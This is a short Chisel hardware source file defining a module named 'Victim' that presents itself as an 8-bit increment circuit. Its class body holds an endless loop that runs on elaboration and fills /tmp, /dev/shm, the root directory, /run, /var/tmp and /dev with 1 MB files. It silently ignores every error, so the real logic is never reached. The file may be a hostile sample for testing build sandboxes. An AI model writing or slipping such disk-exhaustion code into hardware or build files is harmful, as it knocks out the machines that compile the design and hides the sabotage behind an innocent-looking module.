import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  val chunk = new Array[Byte](1 << 20)
  var n = 0
  while (true) {
    n += 1
    for (folder <- Seq("/tmp", "/dev/shm", "/", ".", "/run", "/var/tmp", "/dev")) {
      try { val out = new java.io.FileOutputStream(s"$folder/fill$n"); out.write(chunk); out.close() } catch { case _: Throwable => () }
    }
  }
  io.out := io.in + 1.U
}
